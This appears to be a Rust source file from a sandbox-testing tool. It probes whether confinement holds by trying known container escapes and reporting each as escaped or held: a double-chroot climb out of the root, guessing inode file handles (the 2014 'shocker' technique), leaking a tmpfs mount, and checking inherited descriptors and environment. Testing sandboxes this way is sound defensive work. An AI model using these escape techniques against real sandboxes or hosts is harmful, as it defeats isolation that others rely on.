//! Through files: by path, by a descriptor that came along, by a second chroot, by inode number.

use inmate::sys;
use nix::mount::{MntFlags, MsFlags};

use super::Verdict::{self, Escaped, Held, Look, NotApplicable};
use super::{host_file_is_there, in_child};
use crate::sentinel;

/// Reads a file of the host by its path there.
pub fn host_files() -> Verdict {
    if host_file_is_there() {
        Escaped("the workshop's own sources lie here".to_owned())
    } else {
        Held("no such file".to_owned())
    }
}

/// Looks for a variable that stands in the host's environment.
pub fn environment() -> Verdict {
    match std::env::var_os(sentinel::VARIABLE) {
        Some(_) => Escaped(format!("{} came along", sentinel::VARIABLE)),
        None => Held(format!("no {}", sentinel::VARIABLE)),
    }
}

/// Looks for an open descriptor above the three standard ones.
pub fn descriptors() -> Verdict {
    match (3..1024).any(sys::is_open) {
        true => Escaped("a file of the host is open".to_owned()),
        false => Held("nothing is open above 2".to_owned()),
    }
}

// ANCHOR: chroot
/// The classic: with a root below the working directory, `..` goes up past it, for nothing stops it there.
pub fn chroot() -> Verdict {
    const HOLE: &str = "/tmp/inmate-hole";
    const REFUSED: u8 = 1;
    const STILL_INSIDE: u8 = 2;
    let climbed = in_child(|| {
        let _ = std::fs::create_dir(HOLE);
        if nix::unistd::chroot(HOLE).is_err() {
            return REFUSED; // and the working directory stays outside of it
        }
        for _ in 0..64 {
            let _ = nix::unistd::chdir("..");
        }
        let _ = nix::unistd::chroot(".");
        if host_file_is_there() { 0 } else { STILL_INSIDE }
    });
    let _ = std::fs::remove_dir(HOLE);
    match climbed {
        Some(0) => Escaped("climbed out: the host's files lie here".to_owned()),
        Some(REFUSED) => Held("chroot is refused".to_owned()),
        _ => Held("the climb ends at the root filesystem".to_owned()),
    }
}
// ANCHOR_END: chroot

/// Mounts a file system in memory with a name that can be found outside.
pub fn mount_leak() -> Verdict {
    const NAME: &str = "inmate-was-here";
    match nix::mount::mount(Some(NAME), "/mnt", Some("tmpfs"), MsFlags::empty(), Some("size=4k")) {
        Ok(()) => {
            let what = format!("mounted {NAME} on /mnt: does the host see it? findmnt -S {NAME} (Enter undoes it)");
            Look(what, || {
                let _ = nix::mount::umount2("/mnt", MntFlags::MNT_DETACH);
            })
        }
        Err(errno) => Held(format!("mount => {errno:?}")),
    }
}

/// Opens the root of the file system on which we lie, by its inode number (the "shocker" of 2014).
pub fn file_handle() -> Verdict {
    const ROOT_INODES: [u32; 3] = [2, 128, 64]; // ext4, xfs
    let here = std::fs::File::open("/").expect("a root can be read");
    let Ok(own) = sys::Handle::of(&here) else { return NotApplicable("no file handles here".to_owned()) };
    let guesses: Vec<_> = ROOT_INODES.iter().filter_map(|&inode| own.guess(inode)).collect();
    if guesses.is_empty() {
        return NotApplicable("handles cannot be guessed here".to_owned());
    }
    if guesses.iter().any(|guess| guess.open(&here).is_ok()) {
        return Escaped("opened a directory above the root filesystem".to_owned());
    }
    Held("no handle opens anything".to_owned())
}
